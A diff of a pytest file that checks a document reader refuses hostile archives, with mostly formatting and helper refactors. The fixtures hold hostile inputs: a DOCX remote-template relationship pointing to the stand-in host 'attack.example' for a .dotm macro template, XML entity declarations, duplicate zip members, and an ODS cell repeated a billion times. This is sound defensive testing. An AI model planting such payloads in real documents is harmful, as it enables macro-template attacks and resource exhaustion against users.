@@ -6,11 +6,11 @@ from collections.abc import Callable
 from pathlib import Path
 
 import pytest
-from reading import builders
 
 from maillage.reading.errors import UnreadableDocument
 from maillage.reading.formats import open_document
 from maillage.reading.formats.archive import MAX_MEMBERS
+from reading import builders
 
 _DOCUMENT = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>'
 
@@ -35,9 +35,10 @@ def _climbing(path: Path) -> Path:
 
 
 def _twins(path: Path) -> Path:
-    with zipfile.ZipFile(path, "w") as archive, pytest.warns(UserWarning, match="Duplicate"):
+    with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("word/document.xml", _DOCUMENT)
-        archive.writestr("word/document.xml", _DOCUMENT)
+        with pytest.warns(UserWarning, match="Duplicate"):
+            archive.writestr("word/document.xml", _DOCUMENT)
     return path
 
 
@@ -55,7 +56,9 @@ def _entities(path: Path) -> Path:
 
 
 def _entities_in_utf_16(path: Path) -> Path:
-    return _zip(path, {"word/document.xml": f'<!DOCTYPE x [<!ENTITY a "b">]>{_DOCUMENT}'.encode("utf-16")})
+    return _zip(
+        path, {"word/document.xml": f'<!DOCTYPE x [<!ENTITY a "b">]>{_DOCUMENT}'.encode("utf-16")}
+    )
 
 
 def _remote_template(path: Path) -> Path:
@@ -64,7 +67,11 @@ def _remote_template(path: Path) -> Path:
         'Target="http://attack.example/t.dotm" TargetMode="External"/></Relationships>'
     )
     return _zip(
-        path, {"word/document.xml": _DOCUMENT.encode(), "word/_rels/settings.xml.rels": relation.encode()}
+        path,
+        {
+            "word/document.xml": _DOCUMENT.encode(),
+            "word/_rels/settings.xml.rels": relation.encode(),
+        },
     )
 
 
@@ -81,7 +88,9 @@ def _remote_template(path: Path) -> Path:
         (_remote_template, "extérieur"),
     ],
 )
-def test_hostile_archive_is_refused(tmp_path: Path, make: Callable[[Path], Path], message: str) -> None:
+def test_hostile_archive_is_refused(
+    tmp_path: Path, make: Callable[[Path], Path], message: str
+) -> None:
     with pytest.raises(UnreadableDocument, match=message) as refused:
         open_document(make(tmp_path / "a.docx"))
 
@@ -89,22 +98,28 @@ def test_hostile_archive_is_refused(tmp_path: Path, make: Callable[[Path], Path]
     assert refused.value.remedy.endswith(".")
 
 
+def _repeated_cell(count: int) -> str:
+    repeated = f'table:number-columns-repeated="{count}"'
+    return f"<table:table-cell {repeated}><text:p>x</text:p></table:table-cell>"
+
+
+def _write_ods_row(folder: Path, row: str) -> Path:
+    body = f"<office:spreadsheet><table:table>{row}</table:table></office:spreadsheet>"
+    return builders.write_odf(folder / "a.ods", body, kind="spreadsheet")
+
+
 def test_ods_repeating_a_cell_a_billion_times_is_refused(tmp_path: Path) -> None:
-    cell = (
-        '<table:table-cell table:number-columns-repeated="1000000000"><text:p>x</text:p></table:table-cell>'
-    )
-    body = f"<office:spreadsheet><table:table><table:table-row>{cell}</table:table-row></table:table></office:spreadsheet>"
-    path = builders.write_odf(tmp_path / "a.ods", body, kind="spreadsheet")
+    row = f"<table:table-row>{_repeated_cell(1_000_000_000)}</table:table-row>"
+    path = _write_ods_row(tmp_path, row)
 
     with pytest.raises(UnreadableDocument, match="répétée"):
         open_document(path)
 
 
 def test_ods_repeating_rows_within_the_rules_is_bounded(tmp_path: Path) -> None:
-    cell = '<table:table-cell table:number-columns-repeated="16384"><text:p>x</text:p></table:table-cell>'
+    cell = _repeated_cell(16_384)
     row = f'<table:table-row table:number-rows-repeated="1048576">{cell}{cell}</table:table-row>'
-    body = f"<office:spreadsheet><table:table>{row}</table:table></office:spreadsheet>"
-    path = builders.write_odf(tmp_path / "a.ods", body, kind="spreadsheet")
+    path = _write_ods_row(tmp_path, row)
 
     (table,) = open_document(path).blocks
 
